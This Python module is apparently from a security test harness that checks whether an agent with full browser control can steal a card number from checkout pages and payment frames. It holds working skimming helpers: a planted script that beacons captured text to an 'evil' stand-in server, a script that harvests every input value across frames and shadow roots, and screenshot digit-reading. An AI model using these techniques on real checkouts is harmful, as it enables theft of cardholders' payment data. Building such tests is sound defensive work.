"""Ways in which an agent with full use of its browser endpoint tries to get the card number.

An attack is a function with a docstring, decorated with @attack; it gets an Attempt and uses it as an agent would. It returns
nothing: all that its clients received, all that its servers received, and what it shows with see() is searched for the number
afterwards. The same function runs at every strength; `control` says that it must get the number at `dom`, which proves that it
works.
"""

import base64
import importlib
import json
import select
import urllib.parse
import zlib
from collections import namedtuple

from support import scan
from support.cdp import CdpError
from support.checkout import Page, where_is
from support.rpc import Closed, RpcError

Attack = namedtuple("Attack", "name run site control strengths")
Result = namedtuple("Result", "name site outcome detail")
ALL = []
FAMILIES = ("page_scripts", "reading", "network", "crafted", "origins", "protocol", "leftovers")

# Every value that a script of the page can reach: inputs, editable elements, open shadow roots, frames of the same origin.
VALUES = """(() => { const out = []; const walk = root => { for (const e of root.querySelectorAll('*')) {
  if ('value' in e && e.tagName !== 'LI') out.push(String(e.value)); else if (e.isContentEditable) out.push(e.textContent);
  if (e.shadowRoot) walk(e.shadowRoot);
  if (e.tagName === 'IFRAME') { try { walk(e.contentDocument); } catch (x) { } } } };
  walk(document); return JSON.stringify(out); })()"""


def attack(*sites, control=True, strengths=("dom", "wire", "sealed")):
    """Each of `sites` is a page to try it on, the first one with its control; by default the shop's own page and a processor's frame."""
    def add(run):
        for site in sites or ("xhr_form", "payment_element"):
            first = site == (sites or ("xhr_form",))[0]
            ALL.append(Attack(run.__name__, run, site, control and first, strengths))
        return run
    return add


def load():
    if not ALL:
        for family in FAMILIES:
            importlib.import_module("attacks." + family)
    return ALL


class Attempt:
    def __init__(self, checkout, site_name):
        self.checkout, self.sites, self.browser = checkout, checkout.sites, checkout.browser
        self.strength = checkout.strength
        self.site = self.sites.site(site_name)
        self.number = checkout.fields["number"]
        self.evil = self.sites.origin("evil")
        self.began = len(self.sites.requests)
        self.tapped = {id(b): len(b.tap) for b in checkout._browsers}
        self.refusals, self.seen, self.answer, self.page, self.pages = [], [], None, None, []
        self.undo, self.misdirected = [], []
        self.others = [site for site in self.sites.all() if site.account]

    # The page.

    def beacon(self):
        """JavaScript: out(text) tells it to the attacker's server and keeps it."""
        return ("if (!window.out) { window.loot = []; window.out = x => { loot.push(String(x)); "
                "navigator.sendBeacon('%s/take', String(x)); }; }\n" % self.evil)

    def open(self, plant=None, url=None, site=None, browser=None, ready=True):
        """The site in a new tab; `plant` is a script that runs in it before its own."""
        browser = browser or self.browser
        site = site or self.site
        target = browser.call("Target.createTarget", {"url": "about:blank"})["targetId"]
        session = browser.attach(target)
        if plant:
            session.call("Page.enable")
            session.call("Page.addScriptToEvaluateOnNewDocument", source=self.beacon() + plant)
        return self.go(session, url or site.url, site, ready)

    def go(self, session, url, site=None, ready=True):
        site = site or self.site
        since = len(self.sites.requests)
        session.call("Page.navigate", url=url)
        page = Page(session, site, since)
        self.pages.append(page)
        self.page = self.page or page
        if site.where == "top":
            page.pay_at = [80, 338]
        elif ready:
            session.wait_for("window.ready")
            page.pay_at = where_is(session, "#pay")
        return page

    def fill(self, page=None, **more):
        """purchase.fill; false when it was refused."""
        self.answer = self.checkout.fill(page or self.page, **more)
        self.see(json.dumps(self.answer))
        if "refused" in self.answer:
            self.refusals.append(self.answer["refused"])
        return "refused" not in self.answer

    def pay(self, page=None):
        """Presses the page's button; waits until the card arrived or the purchase ended otherwise."""
        page = page or self.page
        try:
            self.checkout.press_pay(page)
        except CdpError as error:
            self.refusals.append("pay: " + str(error)[:60])
        return self.settle(page)

    def settle(self, page=None):
        page = page or self.page
        if not self.answer or "refused" in self.answer:
            return None
        arrived = self.checkout.outcome(page)
        return arrived

    # Asking.

    def ask(self, session, method, **params):
        """One call; None when it was refused."""
        try:
            return session.call(method, **params)
        except CdpError as error:
            self.refusals.append(str(error)[:100])
            return None

    def look(self, expression=VALUES, session=None, **extra):
        """Runtime.evaluate in the page."""
        return self.ask(session or self.page.session, "Runtime.evaluate", expression=expression, returnByValue=True, awaitPromise=True, **extra)

    def look_everywhere(self, expression=VALUES):
        """The same in the page and in every frame that lets itself be attached to."""
        self.look(expression)
        for session in self.frames():
            self.look(expression, session)

    def frames(self, browser=None):
        browser = browser or self.browser
        found = []
        for info in browser.call("Target.getTargets")["targetInfos"]:
            if info["type"] == "iframe":
                try:
                    found.append(browser.attach(info["targetId"]))
                except CdpError as error:
                    self.refusals.append(str(error)[:100])
        return found

    def client(self):
        browser = self.checkout.client()
        self.tapped[id(browser)] = 0
        return browser

    def keys(self, key, code, windows, modifiers=0, commands=(), session=None):
        session = session or self.page.session
        for kind in ("rawKeyDown", "keyUp"):
            self.ask(session, "Input.dispatchKeyEvent", type=kind, key=key, code=code, windowsVirtualKeyCode=windows,
                     modifiers=modifiers, **({"commands": list(commands)} if commands and kind == "rawKeyDown" else {}))

    def click(self, at, session=None, times=1):
        session = session or self.page.session
        for kind in ("mousePressed", "mouseReleased"):
            self.ask(session, "Input.dispatchMouseEvent", type=kind, x=at[0], y=at[1], button="left", clickCount=times)

    def come_back(self):
        """With a new connection, when the old one was closed."""
        self.checkout.revive()
        if self.browser is not self.checkout.browser:
            self.browser = self.checkout.browser
            self.page.session = self.browser.attach(self.page.target_id)

    def see(self, data):
        """Something else that the agent came to hold."""
        self.seen.append(data if isinstance(data, bytes) else str(data).encode("utf-8", "replace"))

    # The end.

    def drain(self):
        """Events that came without being asked for."""
        for browser in list(self.checkout._browsers):
            try:
                browser.call("Target.getTargets")
                while select.select([browser.socket.socket], [], [], 0)[0]:
                    browser.events.append(json.loads(browser.socket.receive()))
            except (CdpError, OSError, ValueError):
                pass

    def found(self):
        """Where the number came to, other than to the processor it was meant for, once.

        With `sealed` the real number stands in the processor's own frame, which sends what it wants to its own server: twice, or
        for the account that the shop's page named. The agent does not get the number by it; it is told in `misdirected`.
        """
        needles = self.checkout.needles()
        places = []
        for browser in self.checkout._browsers:
            text = "\n".join(browser.tap[self.tapped.get(id(browser), 0):]).encode("utf-8", "replace")
            places += scan.scan_bytes(text, needles, "what a client received")
        for data in self.seen:
            places += scan.scan_bytes(data, needles, "what it saw")
        honest = 0
        for request in self.sites.requests[self.began:]:
            text = request.path.encode() + b"\n" + json.dumps(request.headers).encode() + b"\n" + request.body
            if not scan.scan_bytes(text + b"\n" + urllib.parse.unquote_plus(text.decode("latin-1")).encode("latin-1", "replace"), needles, "x"):
                continue
            if self.sites.honest(self.site, request):
                honest += 1
            elif any(other.psp != self.site.psp and self.sites.honest(other, request) for other in self.others):
                pass  # the late end of an attack before this one
            elif self.strength == "sealed" and request.host == self.site.host and self.site.where != "page":
                self.misdirected.append("%s %s, for another account" % (request.host, request.path.split("?")[0]))
            else:
                places.append("%s %s %s" % (request.method, request.host, request.path.split("?")[0]))
        if honest > 1 and self.strength == "sealed":
            self.misdirected.append("the processor, %d times" % honest)
        elif honest > 1:
            places.append("the processor, %d times" % honest)
        return places

    def close(self):
        for undo in self.undo:
            try:
                undo()
            except (CdpError, OSError):
                pass
        for page in self.pages:
            self.checkout.shut(page)
        self.sites.behave.clear()


def run(checkout, one):
    """The Result of one attack: got, misdirected, refused or held; broke when the script itself failed."""
    checkout.revive()
    checkout.forget_clients()
    attempt = Attempt(checkout, one.site)
    broke = None
    try:
        try:
            one.run(attempt)
        except TimeoutError:
            attempt.refusals.append("no answer")
        except (CdpError, OSError, RpcError, Closed, ValueError, KeyError, TypeError, IndexError) as error:
            broke = "%s: %s" % (type(error).__name__, str(error)[:160])
        checkout.revive()
        attempt.drain()
        places = attempt.found()
    finally:
        attempt.close()
    if places:
        return Result(one.name, one.site, "got", "; ".join(sorted(set(places)))[:300])
    if attempt.misdirected:
        return Result(one.name, one.site, "misdirected", "; ".join(sorted(set(attempt.misdirected))))
    if attempt.refusals:
        return Result(one.name, one.site, "refused", "; ".join(dict.fromkeys(attempt.refusals))[:300])
    if broke:
        return Result(one.name, one.site, "broke", broke)
    return Result(one.name, one.site, "held", "")


# Pictures.

Picture = namedtuple("Picture", "width height rows")


def png(data):
    """8 bits a channel, RGB or RGBA, not interlaced: what Chromium makes. Rows of bytes, four a pixel."""
    data = base64.b64decode(data)
    at, packed, width, height, channels = 8, b"", 0, 0, 4
    while at < len(data):
        size, kind = int.from_bytes(data[at:at + 4], "big"), data[at + 4:at + 8]
        part = data[at + 8:at + 8 + size]
        if kind == b"IHDR":
            width, height = int.from_bytes(part[:4], "big"), int.from_bytes(part[4:8], "big")
            channels = {2: 3, 6: 4}[part[9]]
        elif kind == b"IDAT":
            packed += part
        at += size + 12
    raw, step, rows, above = zlib.decompress(packed), width * channels, [], bytearray(width * channels)
    for y in range(height):
        how, line = raw[y * (step + 1)], bytearray(raw[y * (step + 1) + 1:(y + 1) * (step + 1)])
        for x in range(step):
            a = line[x - channels] if x >= channels else 0
            b, c = above[x], above[x - channels] if x >= channels else 0
            if how == 1:
                line[x] = line[x] + a & 255
            elif how == 2:
                line[x] = line[x] + b & 255
            elif how == 3:
                line[x] = line[x] + (a + b) // 2 & 255
            elif how == 4:
                p = a + b - c
                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
                line[x] = line[x] + (a if pa <= pb and pa <= pc else b if pb <= pc else c) & 255
        rows.append(bytes(line))
        above = line
    return Picture(width, height, [b"".join(row[i:i + 3] for i in range(0, step, channels)) for row in rows])


def read_digits(picture, references, advance, left, count=19):
    """The digits of a monospaced line, by comparing each cell with the ten references of the same line."""
    text = ""
    for i in range(count):
        begin, end = int(left + i * advance) + 1, int(left + (i + 1) * advance)
        cut = [row[begin * 3:end * 3] for row in picture.rows]
        fits = [digit for digit, other in references.items() if [row[begin * 3:end * 3] for row in other.rows] == cut]
        text += fits[0] if len(fits) == 1 else " "
    return text
